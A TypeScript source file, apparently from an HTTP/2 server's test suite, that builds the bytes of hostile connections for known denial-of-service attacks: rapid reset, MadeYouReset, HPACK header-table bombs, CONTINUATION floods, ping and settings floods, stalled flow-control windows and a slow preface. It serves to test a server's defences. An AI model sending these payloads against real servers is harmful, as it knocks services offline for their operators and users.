/** Attacks upon servers of HTTP/2, each as the bytes of one hostile connection: what it says first, and then piece by piece for as long as it may. */
import * as type from '../../core/http2/frames.ts'
import * as setting from '../../core/http2/settings.ts'
import {
  block,
  data,
  END_HEADERS,
  END_STREAM,
  frame,
  GET,
  get,
  HELLO,
  keptBlock,
  ping,
  POST,
  post,
  PREFACE,
  priority,
  reset,
  settings,
  windowUpdate,
  type Fields,
} from './http2.ts'

export interface Attack {
  /** What it is for, in words. */
  readonly title: string
  readonly hello: string
  /** The piece with that index, 0 first; undefined: it has said all, and holds on to what it has. */
  piece(index: number): string | undefined
  /** By which the server is to know it; undefined: it breaks no rule, and is to be borne. */
  readonly kind?: string
}

/** Streams of a connection that are begun at once. */
const STREAMS = 100
const A_PIECE = 25
const id = (index: number): number => 2 * index + 1

/** `one` of a piece's streams, by its identifier. */
const streams = (index: number, one: (streamId: number) => string): string =>
  Array.from({ length: A_PIECE }, (_, at) => one(id(index * A_PIECE + at))).join('')

/** No piece behind these. */
const upTo =
  (pieces: number, one: (index: number) => string) =>
  (index: number): string | undefined =>
    index < pieces ? one(index) : undefined

/** Windows of nothing, so that no response with content ends. */
const STALLED = PREFACE + settings([setting.INITIAL_WINDOW_SIZE, 0])
const kept = (...fields: Fields): string =>
  frame(type.HEADERS, END_STREAM | END_HEADERS, 1, block(GET) + keptBlock(fields))
const referring = (streamId: number, references: number, flags = END_STREAM | END_HEADERS): string =>
  frame(type.HEADERS, flags, streamId, block(GET) + '\xbe'.repeat(references))

/** Streams that each refer so many times to one field of the table. */
const bomb = (title: string, field: Fields[number], references: number, flags?: number): Attack => ({
  title,
  hello: STALLED + kept(field),
  piece: upTo(STREAMS / A_PIECE, (index) =>
    streams(index, (streamId) => (streamId === 1 ? '' : referring(streamId, references, flags))),
  ),
})

const flood = (kind: string, one: string, hello = HELLO): Attack => ({
  title: `${kind} without end`,
  hello,
  piece: () => one.repeat(A_PIECE),
  kind,
})

const OPEN_BLOCK = HELLO + frame(type.HEADERS, 0, 1, block(GET))

export const ATTACKS: Readonly<Record<string, Attack>> = {
  'rapid-reset': {
    title: 'rapid reset (CVE-2023-44487)',
    hello: HELLO,
    piece: (index) => streams(index, (streamId) => get(streamId) + reset(streamId)),
    kind: 'early-reset',
  },
  'made-you-reset': {
    title: 'MadeYouReset (CVE-2025-8671)',
    hello: HELLO,
    piece: (index) => streams(index, (streamId) => post(streamId) + windowUpdate(streamId, 0)),
    kind: 'made-reset',
  },
  bomb: bomb(
    'HTTP/2 bomb (CVE-2026-49975): 16 references to 4,000 bytes in each of 100 streams',
    ['x', 'a'.repeat(4000)],
    15,
  ),
  'bomb-crumbs': bomb('the same in crumbs of a cookie', ['cookie', 'a'.repeat(250)], 240),
  'bomb-fields': bomb('the same in as many fields as there may be', ['x', 'a'.repeat(200)], 240),
  'bomb-small': bomb('heads below all that is counted', ['x', 'a'.repeat(880)], 1),
  'bomb-bodies': bomb('the same, with bodies that never come', ['x', 'a'.repeat(880)], 1, END_HEADERS),
  'bomb-refused': bomb('heads far beyond what they may have', ['x', 'a'.repeat(4000)], 15_000),
  continuation: {
    title: 'CONTINUATION without end (CVE-2024-27316)',
    hello: OPEN_BLOCK,
    piece: () => frame(type.CONTINUATION, 0, 1, keptBlock([['x', 'a'.repeat(1000)]])).repeat(4),
    kind: 'continuation',
  },
  'continuation-empty': {
    title: 'CONTINUATION without content',
    hello: OPEN_BLOCK,
    piece: () => frame(type.CONTINUATION, 0, 1).repeat(A_PIECE),
    kind: 'continuation',
  },
  'continuation-held': {
    title: 'a field block that is let hang before it is too long',
    hello: OPEN_BLOCK,
    piece: upTo(7, () => frame(type.CONTINUATION, 0, 1, keptBlock([['x', 'a'.repeat(15_000)]]))),
  },
  ping: flood('ping', ping()),
  settings: flood('settings', settings([setting.INITIAL_WINDOW_SIZE, 70_000])),
  'empty-data': flood('empty-data', data(1, ''), HELLO + frame(type.HEADERS, END_HEADERS, 1, block(POST))),
  priority: flood('priority', priority(1, 0)),
  'window-update': flood('window-update', windowUpdate(0, 1)),
  stall: {
    title: 'windows that stay shut',
    hello: STALLED,
    piece: upTo(STREAMS / A_PIECE, (index) => streams(index, get)),
  },
  idle: { title: 'connections without a request', hello: HELLO, piece: () => undefined },
  'slow-preface': {
    title: 'a preface that is let hang',
    hello: PREFACE.slice(0, 20),
    piece: () => undefined,
  },
}
